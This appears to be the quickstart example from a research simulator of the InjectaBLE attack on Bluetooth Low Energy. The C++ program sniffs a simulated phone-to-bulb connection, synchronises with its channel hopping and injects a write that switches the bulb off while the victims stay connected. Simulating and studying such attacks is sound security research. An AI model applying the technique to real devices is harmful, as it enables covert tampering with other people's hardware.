// Quickstart: the smallest end-to-end InjectaBLE run.
//
//   1. A phone (Central) connects to a smart bulb (Peripheral) in the
//      simulated radio world.
//   2. The attacker sniffs the CONNECT_REQ and synchronises with the hopping.
//   3. It races the legitimate master inside the window-widening window and
//      injects one ATT Write Request that switches the bulb off.
//
// Build & run:  ./build/examples/quickstart
#include <cstdio>
#include <cstdlib>

#include "core/forge.hpp"
#include "link/trace.hpp"
#include "world/world.hpp"

using namespace ble;
using namespace injectable;

int main() {
    // --- the world: one radio medium, three devices ---
    world::WorldSpec spec;
    spec.seed = 2026;
    spec.supervision_timeout = 300;
    spec.master_clock_ppm = 20.0;  // a stock phone crystal
    spec.master_sca_ppm = 0.0;     // ...declaring its real bound
    spec.master_traffic_every_events = 0;
    world::World world(spec);

    // INJECTABLE_TRACE=1 prints every frame on the air, Wireshark-style.
    obs::ScopedSubscription trace;
    if (std::getenv("INJECTABLE_TRACE")) {
        trace = obs::ScopedSubscription(world.bus(), [](const obs::Event& event) {
            const auto* tx = std::get_if<obs::TxStart>(&event);
            if (tx == nullptr) return;
            const std::uint32_t aa = ByteReader(tx->bytes).read_u32().value_or(0);
            const std::string sender(tx->sender);
            std::printf("%12.3f ms  ch %2u  AA %08x  %-10s  %s\n", to_ms(tx->time), tx->channel,
                        aa, sender.c_str(), link::describe_frame(tx->bytes).c_str());
        });
    }

    world.bulb.on_change = [&](const gatt::LightbulbProfile::State& s) {
        std::printf("[%8.1f ms] BULB   state change: power=%s rgb=(%u,%u,%u)\n",
                    to_ms(world.scheduler.now()), s.powered ? "on" : "OFF", s.r, s.g,
                    s.b);
    };

    // --- phase 1: sniff the CONNECT_REQ while the victims pair up ---
    if (!world.establish_and_sniff(5_s)) {
        std::printf("setup failed\n");
        return 1;
    }
    const auto& conn = *world.sniffed;
    std::printf("[%8.1f ms] ATTACK CONNECT_REQ captured: AA=0x%08x, hop interval %u "
                "(%.2f ms), hop increment %u\n",
                to_ms(world.scheduler.now()), conn.params.access_address,
                conn.params.hop_interval, conn.params.hop_interval * 1.25,
                conn.params.hop_increment);
    std::printf("[%8.1f ms] VICTIM connection established (bulb <-> phone)\n",
                to_ms(world.scheduler.now()));

    // --- phase 2: synchronise with the hopping ---
    AttackSession& session = world.start_session(400_ms);
    std::printf("[%8.1f ms] ATTACK following the connection (event %u, widening "
                "estimate %.1f us)\n",
                to_ms(world.scheduler.now()), session.event_counter(),
                to_us(session.estimated_widening()));

    // --- phase 3: inject ---
    session.on_attempt = [&](const AttemptReport& report) {
        std::printf("[%8.1f ms] ATTACK attempt %d on channel %u: %s\n",
                    to_ms(world.scheduler.now()), report.attempt, report.channel,
                    report.verdict.success()
                        ? "SUCCESS (Eq. 7 heuristic)"
                        : (!report.verdict.timing_ok ? "lost the race"
                                                     : "collision corrupted the frame"));
    };
    std::optional<bool> outcome;
    AttackSession::InjectionRequest request;
    request.payload = att_over_l2cap(att::make_write_req(
        world.bulb.control_handle(), gatt::LightbulbProfile::cmd_set_power(false)));
    request.max_attempts = 50;
    request.done = [&](bool ok, int attempts) {
        outcome = ok;
        std::printf("[%8.1f ms] ATTACK done: %s after %d attempt(s)\n",
                    to_ms(world.scheduler.now()), ok ? "injected" : "gave up", attempts);
    };
    session.inject(std::move(request));

    world.run_until(60_s, [&] { return outcome.has_value(); });

    world.run_for(1_s);
    std::printf("\nresult: bulb is %s; victims still connected: %s\n",
                world.bulb.state().powered ? "ON (attack failed)" : "OFF (attack worked)",
                world.central->connected() && world.peripheral->connected()
                    ? "yes (attack is invisible)"
                    : "no");
    return world.bulb.state().powered ? 1 : 0;
}
